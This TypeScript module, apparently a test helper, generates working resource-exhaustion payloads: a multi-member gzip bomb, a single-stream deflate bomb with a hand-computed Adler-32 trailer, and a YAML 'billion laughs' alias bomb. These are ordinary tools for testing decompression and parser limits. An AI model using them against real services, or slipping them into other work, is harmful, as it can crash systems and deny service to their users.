// Decompression and alias bombs, built in memory in milliseconds instead of compressing a gigabyte of zeros.
import zlib from 'node:zlib';

const MIB = 1 << 20;

/**
 * A valid gzip file that inflates to `inflatedBytes` of zeros (a multiple of 1 MiB): one member holding
 * 1 MiB of zeros (about 1 KB), repeated. RFC 1952 §2.2 allows a file to be several members, and every gzip
 * reader (Node's included) reads them all. 1 GiB inflated is about 1 MB on the wire.
 */
export function gzipBomb(inflatedBytes = 1024 * MIB): Buffer {
  const member = zlib.gzipSync(Buffer.alloc(MIB), { level: 9 });
  return Buffer.concat(new Array<Buffer>(Math.ceil(inflatedBytes / MIB)).fill(member));
}

/**
 * A single valid zlib stream (Content-Encoding: deflate) that inflates to `inflatedBytes` of zeros. After a
 * full flush the compressor forgets its history, so each further MiB of zeros compresses to the very same
 * bytes; the trailer is the Adler-32 of n zeros, which is (n mod 65521) << 16 | 1.
 */
export async function deflateBomb(inflatedBytes = 1024 * MIB): Promise<Buffer> {
  const raw = zlib.createDeflateRaw({ level: 9 });
  const take = (): Buffer => {
    const parts: Buffer[] = [];
    for (let c = raw.read() as Buffer | null; c !== null; c = raw.read() as Buffer | null) parts.push(c);
    return Buffer.concat(parts);
  };
  raw.write(Buffer.alloc(MIB));
  await new Promise<void>((resolve) => raw.flush(zlib.constants.Z_FULL_FLUSH, () => resolve()));
  const segment = take();
  const ended = new Promise<void>((resolve) => raw.once('end', resolve));
  raw.end();
  raw.resume();
  const finalBlock = await new Promise<Buffer>((resolve) => {
    const parts: Buffer[] = [];
    raw.on('data', (c: Buffer) => parts.push(c));
    void ended.then(() => resolve(Buffer.concat(parts)));
  });
  const n = Math.ceil(inflatedBytes / MIB) * MIB;
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((n % 65521) << 16) | 1) >>> 0);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...new Array<Buffer>(n / MIB).fill(segment), finalBlock, adler]);
}

/**
 * A YAML "billion laughs": `levels` anchors, each a list of `width` aliases of the one before, so the last
 * expands to width^levels strings (9^9, about 387 million, by default) while the text is under 1 KB.
 */
export function yamlAliasBomb(levels = 9, width = 9): string {
  const names = 'abcdefghijklmnopqrstuvwxyz';
  const lines = [`${names[0]}: &${names[0]} [${new Array<string>(width).fill('"lol"').join(', ')}]`];
  for (let i = 1; i < levels; i++)
    lines.push(`${names[i]}: &${names[i]} [${new Array<string>(width).fill(`*${names[i - 1]}`).join(', ')}]`);
  return `${lines.join('\n')}\n`;
}
